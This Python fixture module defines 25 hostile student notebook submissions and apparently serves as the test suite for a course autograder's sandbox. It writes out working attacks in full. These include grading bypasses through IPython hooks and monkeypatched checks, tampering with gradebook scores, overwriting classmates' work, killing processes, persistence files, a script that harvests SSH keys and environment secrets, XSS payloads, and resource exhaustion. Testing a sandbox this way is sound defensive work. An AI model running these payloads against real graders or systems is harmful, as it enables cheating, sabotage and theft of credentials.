"""The hostile class: what a hostile student hands in, one attack per student (used by tests/test_hostile_class.py).

Every attack starts from the blank student notebook of lab 01 (nothing answered: 0 points is the right grade) and
puts its code into answer cells, added cells, cell metadata or the file name. ``ATTACKS`` maps a student id to
``(what it tries, {answer cell id: source} or a function that edits the notebook)``. The canaries are secrets the
attacks try to read and show in their own feedback.
"""
from __future__ import annotations

CANARY_ENV = "XAI_TEST_SECRET_ENV"
CANARY_ENV_VALUE = "canary-env-6f1d2"
CANARY_SSH = "canary-ssh-key-93ab7"
CANARY_CLASSMATE = "canary-classmate-answer-51c0e"
SCRIPT = "<script>alert('xss')</script>"

_FIND_AND_PRINT = r'''
import os, glob, helpers
repo = os.path.dirname(os.path.dirname(helpers.__file__))
found = []
for root in (os.path.expanduser("~"), "/tmp", "/root", "/home", "/var", "/etc", repo + "/solutions", repo + "/grading",
             repo + "/tests", os.path.dirname(repo)):
    for pattern in ("**/gradebook.db", "**/solutions/**/*.ipynb", "**/submitted/**/*.ipynb", "**/.ssh/*",
                    "**/kernel-*.json", "**/*.json"):
        try:
            found += glob.glob(os.path.join(root, pattern), recursive=True)[:50]
        except Exception:
            pass
print("FOUND", sorted(set(found))[:200])
for path in sorted(set(found))[:200]:
    try:
        print(path, open(path, errors="replace").read()[:3000])
    except Exception as error:
        print(path, type(error).__name__)
print(dict(os.environ))
'''

ATTACKS: dict[str, tuple[str, object]] = {
    # -- a blank notebook that fakes passing tests in the kernel -----------------------------------------------------
    "a01": ("skip-execution tags and 0-point metadata on the test cells", "tags"),
    "a02": ("set_custom_exc that clears error_in_exec", {"ex1_captum_target1": r'''
ip = get_ipython()
def hide(shell, etype, evalue, tb, tb_offset=None):
    shell.displayhook.exec_result.error_in_exec = None
ip.set_custom_exc((BaseException,), hide)
'''}),
    "a03": ("input transformer wrapping every cell in try/except", {"ex1_captum_target1": r'''
def wrap(lines):
    return ["try:\n"] + ["    " + line for line in lines] + ["\nexcept BaseException:\n    pass\n"]
get_ipython().input_transformers_cleanup.append(wrap)
'''}),
    "a04": ("pre_run_cell hook publishing an execute_result (nbgrader partial credit)", {"ex1_captum_target1": r'''
from IPython.display import publish_display_data
def credit(info):
    get_ipython().display_pub.publish({"text/plain": "2.0"})
get_ipython().events.register("pre_run_cell", credit)
'''}),
    "a05": ("check functions replaced by callable objects through setattr and globals()", {"ex1_captum_target1": r'''
import helpers.checks, torch.testing, helpers.exercises.lab01 as lab
class Yes:
    def __call__(self, *args, **kwargs):
        print("Exercise: correct")
setattr(helpers.checks, "check_attribution", Yes())
torch.testing.assert_close = Yes()
globals()["self_check"] = Yes()
setattr(lab, "self_check", Yes())
lab.LAB.self_check = Yes()
'''}),
    "a06": ("from-scratch answer calling Captum through a function whose co_filename is helpers/checks.py",
            {"ex2_toy_ig_by_hand": r'''
import helpers.checks
def _ig(inputs):
    from captum.attr import IntegratedGradients
    from helpers.models import ToyModel
    return IntegratedGradients(ToyModel()).attribute(inputs, target=0)
_ig.__code__ = _ig.__code__.replace(co_filename=helpers.checks.__file__)
toy_ig_target0 = _ig
'''}),
    "a07": ("exec of the solution cells read from solutions/ on disk", {"ex1_captum_target1": r'''
import json, os, re, helpers
repo = os.path.dirname(os.path.dirname(helpers.__file__))
for path in (os.path.join(repo, "solutions", "01_toy_model", "01_toy_model.ipynb"),
             "/work/main/solutions/01_toy_model/01_toy_model.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except Exception as error:
        print("no solutions:", type(error).__name__)
        continue
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(cell["source"])), globals())
'''}),
    "a08": ("sys.setprofile(None) before calling Captum in a from-scratch exercise", {"ex2_toy_ig_by_hand": r'''
import sys
def toy_ig_target0(inputs):
    sys.setprofile(None)
    from captum.attr import IntegratedGradients
    from helpers.models import ToyModel
    return IntegratedGradients(ToyModel()).attribute(inputs, target=0)
'''}),
    # -- the grader's files and the classmates ------------------------------------------------------------------------
    "a09": ("sets its score in gradebook.db with sqlite3, a classmate's to 0", {"ex1_captum_target1": r'''
import glob, os, sqlite3
candidates = [p for root in ("/tmp", "/home", "/root", "/var") for p in glob.glob(root + "/**/gradebook.db", recursive=True)]
for path in candidates + [os.path.join(os.environ.get("XAI_GRADING_DIR", "/x"), "gradebook.db")]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 100")
        db.commit()
        print("gradebook changed", path)
    except Exception as error:
        print("gradebook:", path, type(error).__name__)
'''}),
    "a10": ("rewrites a queued classmate's hand-in", {"ex1_captum_target1": r'''
import glob
for path in [p for root in ("/tmp", "/home", "/root") for p in glob.glob(root + "/**/submitted/**/*.ipynb", recursive=True)]:
    try:
        open(path, "w").write("{}")
        print("rewrote", path)
    except Exception as error:
        print(path, type(error).__name__)
'''}),
    "a11": ("connects to the parallel student's kernel, kills every process it can see", {"ex1_captum_target1": r'''
import glob, json, os, signal
for path in [p for root in ("/tmp", "/home", "/root", "/run") for p in glob.glob(root + "/**/*.json", recursive=True)]:
    try:
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("import os; os._exit(1)")
        print("attacked kernel", path)
    except Exception as error:
        print("kernel file", path, type(error).__name__)
for pid in range(1, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
'''}),
    # -- persistence -------------------------------------------------------------------------------------------------
    "a12": ("appends a payload to helpers/*.py (editable install) and a .pth to site-packages", {"ex1_captum_target1": r'''
import glob, os, site, helpers
payload = "\nimport os; os.environ['PWNED'] = '1'\n"
for path in glob.glob(os.path.join(os.path.dirname(helpers.__file__), "**", "*.py"), recursive=True):
    try:
        open(path, "a").write(payload)
        print("changed", path)
    except Exception as error:
        print(path, type(error).__name__)
for folder in site.getsitepackages():
    try:
        open(os.path.join(folder, "zz_pwned.pth"), "w").write("import os; os.environ['PWNED'] = '1'\n")
        print("pth written", folder)
    except Exception as error:
        print(folder, type(error).__name__)
'''}),
    "a13": ("IPython startup file and ~/.jupyter/nbgrader_config.py for every later student", {"ex1_captum_target1": r'''
import os
for home in (os.path.expanduser("~"), "/root", os.environ.get("HOME", "")):
    for path, text in ((".ipython/profile_default/startup/00-pwn.py", "import helpers.exercises.core as c\nc.Lab.self_check = lambda *a, **k: None\n"),
                       (".jupyter/nbgrader_config.py", "c = get_config()\nc.Execute.timeout = 1\n")):
        try:
            full = os.path.join(home, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            open(full, "w").write(text)
            print("wrote", full)
        except Exception as error:
            print(home, path, type(error).__name__)
'''}),
    # -- secrets into its own feedback ----------------------------------------------------------------------------------
    "a14": ("reads hidden tests, solutions, classmates, environment and ~/.ssh and prints them",
            {"ex1_captum_target1": _FIND_AND_PRINT}),
    "a15": ("from-scratch function leaks the hidden cases through its results and exceptions", {"ex2_toy_ig_by_hand": r'''
import json, os, sys, torch
def _secrets():
    text = ""
    for path in sys.argv[1:] + [os.path.join("/proc/self/cwd", name) for name in os.listdir("/proc/self/cwd")]:
        try:
            text += open(path).read()
        except Exception:
            pass
    return text
def toy_ig_target0(inputs):
    secret = _secrets()
    digits = [int(c) for c in secret if c.isdigit()][:40] or [0]
    if len(inputs) > 5:
        raise ValueError("leak " + secret[:2000])
    return torch.tensor(digits, dtype=torch.float32).reshape(1, -1)
'''}),
    "a16": ("<script> in a markdown answer and in HTML, JavaScript and SVG outputs", "script"),
    # -- stopping the batch ----------------------------------------------------------------------------------------------
    "a17": ("kills the autograde CLI (its parent processes)", {"ex1_captum_target1": r'''
import os, signal, subprocess
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as error:
        print(pid, type(error).__name__)
subprocess.run(["pkill", "-9", "-f", "helpers.course"])
'''}),
    "a18": ("a setsid daemon holding the output pipe, a double-forked sleeper", {"ex1_captum_target1": r'''
import os, subprocess, sys
subprocess.Popen(["setsid", sys.executable, "-c", "import time\nwhile True: time.sleep(1)"], stdout=sys.stdout.fileno() if hasattr(sys.stdout, "fileno") else None, stderr=subprocess.STDOUT)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        while True:
            time.sleep(1)
    os._exit(0)
'''}),
    "a19": ("forks many processes (bounded: 600, beyond the process limit)", {"ex1_captum_target1": r'''
import os, time
children = 0
for _ in range(600):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError as error:
        print("fork refused after", children, type(error).__name__)
        break
'''}),
    "a20": ("allocates memory beyond the sandbox's limit (bounded: 3 GB)", {"ex1_captum_target1": r'''
chunks = []
for _ in range(30):
    chunks.append(bytearray(100 * 2**20))
print("allocated", len(chunks) * 100, "MB")
'''}),
    "a21": ("writes files without limit (bounded: 2 GB in /tmp, the home and its results folder)", {"ex1_captum_target1": r'''
import os
block = b"x" * 2**20
for folder in ("/tmp", os.path.expanduser("~"), os.environ.get("XAI_GRADING_RECORD", "/tmp")):
    try:
        with open(os.path.join(folder, "big.bin"), "wb") as f:
            for _ in range(700):
                f.write(block)
    except Exception as error:
        print(folder, type(error).__name__)
'''}),
    "a22": ("floods the output (bounded: 60 MB)", {"ex1_captum_target1": r'''
line = "flood " * 1000 + "\n"
for _ in range(10_000):
    print(line, end="")
'''}),
    "a23": ("an infinite loop that ignores KeyboardInterrupt, in two cells", {"ex1_captum_target1": r'''
import time
while True:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
''', "ex4_batch": r'''
while True:
    try:
        pass
    except KeyboardInterrupt:
        pass
'''}),
    "a24": ("kills its own kernel", {"ex1_captum_target1": "import os\nos._exit(0)\n"}),
    "a25": ("answers nothing, adds cells that fake passing output", "added"),
}


def tag_test_cells(nb) -> None:
    """a01: skip-execution tags, 0 points and no grade flag on every test cell, a solution flag on locked cells."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
            meta.update(points=0, grade=False, locked=False, solution=True)


def script_everywhere(nb, answer_cell) -> None:
    """a16: scripts in the written answer, and HTML/JS/SVG outputs from an answer cell."""
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "q1_signs":
            cell.source = (f"My answer {SCRIPT} <img src=x onerror=\"alert('xss')\"> "
                           "[click](javascript:alert('xss')) <iframe src='javascript:alert(1)'></iframe>")
    answer_cell.source = (
        "from IPython.display import HTML, Javascript, SVG, display\n"
        f"display(HTML(\"{SCRIPT}<b onmouseover=alert('xss')>bold</b>\"))\n"
        "display(Javascript(\"alert('xss')\"))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(\\'xss\\')</script></svg>'))\n"
        f"print(\"{SCRIPT}\")\n")


def added_cells(nb) -> None:
    """a25: cells added after each test cell that print what a passing self-check prints."""
    import nbformat

    for index in reversed(range(len(nb.cells))):
        meta = nb.cells[index].metadata.get("nbgrader", {})
        if meta.get("grade") and nb.cells[index].cell_type == "code":
            nb.cells.insert(index + 1, nbformat.v4.new_code_cell(
                "print('Exercise 1: correct: 2/2 points')\nimport helpers.exercises.core as core\n"
                "core.Lab.self_check = lambda self, *a, **k: print('correct')"))
